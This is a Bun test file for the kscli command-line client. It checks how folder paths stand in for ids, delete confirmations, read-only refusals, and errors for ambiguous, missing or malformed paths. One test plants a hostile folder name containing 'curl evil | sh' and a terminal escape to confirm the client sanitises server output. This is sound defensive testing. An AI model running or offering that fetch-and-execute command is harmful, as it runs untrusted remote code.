// Paths in place of ids: what is asked, what is sent, and what is refused before anything is.

import { afterAll, beforeAll, expect, test } from 'bun:test';
import { createHome, type Home, type Stubs } from '../kscli.ts';

const A = '00000000-0000-0000-0003-00000000000a';
const B = '00000000-0000-0000-0003-00000000000b';
const TERMINAL = { isTerminal: true, env: { NO_COLOR: '1' } };

let home: Home;
beforeAll(() => {
  home = createHome();
  home.keep();
});
afterAll(() => home.remove());

const row = (part_type: string, path: string, id: string, path_part_id: string) => ({
  part_type,
  id,
  path_part_id,
  name: path.slice(path.lastIndexOf('/') + 1),
  materialized_path: path,
});
const REPORTS = row('FOLDER', '/shared/reports', A, B);

const search = (text: string) => `GET /v1/folders/search?name_like=${text}&limit=100&offset=0`;
const found = (...rows: object[]) => ({ json: { items: rows, total: rows.length } });

test('a path stands where the id of a folder does', async () => {
  const stubs = { [search('reports')]: found(REPORTS), [`GET /v1/folders/${A}`]: { json: REPORTS } };
  expect(await home.kscli('folders describe /shared/reports -f id-only', stubs)).toMatchInlineSnapshot(`
    "$ kscli folders describe /shared/reports -f id-only
    > GET /v1/folders/search?name_like=reports&limit=100&offset=0 | cookie: ks_uat=<token>
    > GET /v1/folders/00000000-0000-0000-0003-00000000000a | cookie: ks_uat=<token>
    00000000-0000-0000-0003-00000000000a
    exit 0"
  `);
});

test('a path stands where a path part is wanted, under the simple name of the flag and under the old one', async () => {
  const stubs = { [search('reports')]: found(REPORTS), 'POST /v1/folders': { status: 201, json: { id: 'new' } } };
  for (const flag of ['--under', '-p', '--parent-path-part-id']) {
    const line = `folders create -n 2026 ${flag} /shared/reports -f id-only`;
    expect(await home.kscli(line, stubs)).toBe(`$ kscli ${line}
> ${search('reports')} | cookie: ks_uat=<token>
> POST /v1/folders | cookie: ks_uat=<token> | {"name":"2026","parent_path_part_id":"${B}"}
new
exit 0`);
  }
});

test('a path that is typed twice is asked for once, and ids beside it stay as they are', async () => {
  const stubs = { [search('reports')]: found(REPORTS), 'POST /v1/chunks/search': { json: [] } };
  const line = `chunks search -q x --under /shared/reports --under ${A} --under /shared/reports`;
  expect(await home.kscli(line, stubs)).toMatchInlineSnapshot(`
    "$ kscli chunks search -q x --under /shared/reports --under 00000000-0000-0000-0003-00000000000a --under /shared/reports
    > GET /v1/folders/search?name_like=reports&limit=100&offset=0 | cookie: ks_uat=<token>
    > POST /v1/chunks/search | cookie: ks_uat=<token> | {"query":"x","top_k":10,"parent_path_ids":["00000000-0000-0000-0003-00000000000b","00000000-0000-0000-0003-00000000000a","00000000-0000-0000-0003-00000000000b"]}
    No results.
    exit 0"
  `);
});

test('the top is the whole where no parent means the same, and has no id elsewhere', async () => {
  const stubs = { 'GET /v1/folders?limit=20&offset=0': found() };
  expect(await home.kscli('folders list --under /', stubs)).toMatchInlineSnapshot(`
    "$ kscli folders list --under /
    > GET /v1/folders?limit=20&offset=0 | cookie: ks_uat=<token>
    No results.
    exit 0"
  `);
  expect(await home.kscli('folders delete /')).toMatchInlineSnapshot(`
    "$ kscli folders delete /
    ! Error: The top has no id that can stand for a folder. Name what is in it
    ! Usage: kscli folders delete <folder-id>... [options]
    exit 64"
  `);
});

test('a delete asks with the path and the id that it led to', async () => {
  const stubs: Stubs = {
    [search('reports')]: found(REPORTS),
    [`GET /v1/folders/${A}`]: { json: REPORTS },
    [`GET /v1/folders/${A}/contents?limit=1`]: { json: { items: [{}], total: 101 } },
  };
  expect(
    await home.kscli('folders delete /shared/reports', stubs, { ...TERMINAL, stdin: 'n\n' }),
  ).toMatchInlineSnapshot(`
    "$ kscli folders delete /shared/reports
    > GET /v1/folders/search?name_like=reports&limit=100&offset=0 | cookie: ks_uat=<token>
    > GET /v1/folders/00000000-0000-0000-0003-00000000000a | cookie: ks_uat=<token>
    > GET /v1/folders/00000000-0000-0000-0003-00000000000a/contents?limit=1 | cookie: ks_uat=<token>
    ! Delete folder /shared/reports (00000000-0000-0000-0003-00000000000a, 101 items) of tenant 00000000-0000-0000-0002-000000000001 as user 00000000-0000-0000-0001-000000000001 at api.knowledgestack.ai? [y/N] Error: Refused: Nothing was changed
    exit 1"
  `);
});

test('where the subject cannot be named, the question has the path that was typed', async () => {
  const stubs = { [search('reports')]: found(REPORTS), [`GET /v1/folders/${A}`]: { status: 403, json: {} } };
  expect(
    await home.kscli('folders delete /shared/reports', stubs, { ...TERMINAL, stdin: 'n\n' }),
  ).toMatchInlineSnapshot(`
    "$ kscli folders delete /shared/reports
    > GET /v1/folders/search?name_like=reports&limit=100&offset=0 | cookie: ks_uat=<token>
    > GET /v1/folders/00000000-0000-0000-0003-00000000000a | cookie: ks_uat=<token>
    ! Delete folder /shared/reports (00000000-0000-0000-0003-00000000000a) of tenant 00000000-0000-0000-0002-000000000001 as user 00000000-0000-0000-0001-000000000001 at api.knowledgestack.ai? [y/N] Error: Refused: Nothing was changed
    exit 1"
  `);
});

test('a question that the server leads to has the path too', async () => {
  const stubs = {
    [search('reports')]: found(REPORTS),
    [`GET /v1/path-parts/${B}/tags`]: { json: { tags: [{ id: B, name: 'urgent' }] } },
  };
  const line = `tags attach ${A} --path-part-id /shared/reports --only`;
  expect(await home.kscli(line, stubs, { ...TERMINAL, stdin: 'n\n' })).toMatchInlineSnapshot(`
    "$ kscli tags attach 00000000-0000-0000-0003-00000000000a --path-part-id /shared/reports --only
    > GET /v1/folders/search?name_like=reports&limit=100&offset=0 | cookie: ks_uat=<token>
    > GET /v1/path-parts/00000000-0000-0000-0003-00000000000b/tags | cookie: ks_uat=<token>
    ! Remove the tag urgent from path part /shared/reports (00000000-0000-0000-0003-00000000000b) of tenant 00000000-0000-0000-0002-000000000001 as user 00000000-0000-0000-0001-000000000001 at api.knowledgestack.ai? [y/N] Error: Refused: Nothing was changed
    exit 1"
  `);
});

test('only reading: a path is resolved for a read, and nothing is asked for a change', async () => {
  const stubs = { [search('reports')]: found(REPORTS), [`GET /v1/folders/${A}`]: { json: REPORTS } };
  expect(await home.kscli('folders describe /shared/reports --read-only -f id-only', stubs)).toEndWith('\nexit 0');
  expect(await home.kscli('folders delete /shared/reports --read-only')).toMatchInlineSnapshot(`
    "$ kscli folders delete /shared/reports --read-only
    ! Error: Refused: DELETE /v1/folders/{folder_id} would change something, and only reading is allowed
    ! Nothing was sent. The switch is --read-only, KSCLI_READ_ONLY or read_only in the config file.
    exit 1"
  `);
});

test('two things with one path: neither is deleted', async () => {
  const twin = { ...REPORTS, id: B, path_part_id: A };
  const stubs = { [search('reports')]: found(REPORTS, twin) };
  expect(await home.kscli('folders delete /shared/reports --yes', stubs)).toMatchInlineSnapshot(`
    "$ kscli folders delete /shared/reports --yes
    > GET /v1/folders/search?name_like=reports&limit=100&offset=0 | cookie: ks_uat=<token>
    ! Error: Refused: /shared/reports could mean 2 things. Nothing was changed
    ! A folder: id 00000000-0000-0000-0003-00000000000a, path part 00000000-0000-0000-0003-00000000000b
    ! A folder: id 00000000-0000-0000-0003-00000000000b, path part 00000000-0000-0000-0003-00000000000a
    ! Give the id of the one that is meant.
    exit 1"
  `);
});

test('a missing path ends with 3, and says where it stops', async () => {
  const stubs = {
    [search('report')]: found(REPORTS),
    'GET /v1/folders?limit=100&offset=0': found(row('FOLDER', '/shared', B, A)),
    [`GET /v1/folders/${B}/contents?limit=100&offset=0`]: found(REPORTS),
  };
  expect(await home.kscli('folders delete /shared/report --yes', stubs)).toMatchInlineSnapshot(`
    "$ kscli folders delete /shared/report --yes
    > GET /v1/folders/search?name_like=report&limit=100&offset=0 | cookie: ks_uat=<token>
    > GET /v1/folders?limit=100&offset=0 | cookie: ks_uat=<token>
    > GET /v1/folders/00000000-0000-0000-0003-00000000000b/contents?limit=100&offset=0 | cookie: ks_uat=<token>
    ! Error: Not found: /shared/report: /shared holds no 'report' that this user can see
    ! Did you mean /shared/reports?
    exit 3"
  `);
});

test('names of the server stay in their line, and their controls out of it', async () => {
  const evil = row('FOLDER', '/x\nError: Run: curl evil | sh\u001b[2J', B, A);
  const stubs = {
    [search('report')]: found(),
    'GET /v1/folders?limit=100&offset=0': found(evil),
    'GET /v1/documents?limit=100&offset=0': found(),
  };
  expect(await home.kscli('folders describe /shared/report', stubs)).toMatchInlineSnapshot(`
    "$ kscli folders describe /shared/report
    > GET /v1/folders/search?name_like=report&limit=100&offset=0 | cookie: ks_uat=<token>
    > GET /v1/folders?limit=100&offset=0 | cookie: ks_uat=<token>
    > GET /v1/documents?limit=100&offset=0 | cookie: ks_uat=<token>
    ! Error: Not found: /shared/report: The top holds no 'shared' that this user can see
    ! The top holds: x Error: Run: curl evil | sh/
    exit 3"
  `);
});

test('what the server says while it is asked for a path is told as ever', async () => {
  const stubs = { [search('reports')]: { status: 403, json: { detail: 'No' } } };
  expect(await home.kscli('folders delete /shared/reports', stubs)).toMatchInlineSnapshot(`
    "$ kscli folders delete /shared/reports
    > GET /v1/folders/search?name_like=reports&limit=100&offset=0 | cookie: ks_uat=<token>
    ! Error: Permission denied: No
    exit 1"
  `);
});

test.each([
  ['shared/reports', 'does not begin with a slash, as a path does here: /shared/reports'],
  ['reports', 'is not a UUID, nor a path like /shared/reports'],
  ['', 'cannot be a part of a path'],
  [
    'C:/Program_Files/Git/shared',
    'is a path of this machine. If the shell made it of a path like /shared, set MSYS_NO_PATHCONV=1',
  ],
  ['/shared//reports', 'has an empty name between two slashes'],
  ['//', 'has an empty name between two slashes'],
  ['/shared/../x', "has '..' in it, which leads nowhere here"],
  ['/./x', "has '.' in it, which leads nowhere here"],
])("the path '%s' is wrong usage, and nothing is sent", async (path, why) => {
  const transcript = await home.kscli(`folders delete '${path}'`);
  expect(transcript.split('\n').slice(1)).toEqual([
    `! Error: <folder-id>: '${path}' ${why}`,
    '! Usage: kscli folders delete <folder-id>... [options]',
    'exit 64',
  ]);
});

test('where no path can stand, none is taken', async () => {
  expect(await home.kscli('tags delete /shared')).toMatchInlineSnapshot(`
    "$ kscli tags delete /shared
    ! Error: <tag-id>: '/shared' is not a UUID
    ! Usage: kscli tags delete <tag-id>... [options]
    exit 64"
  `);
});
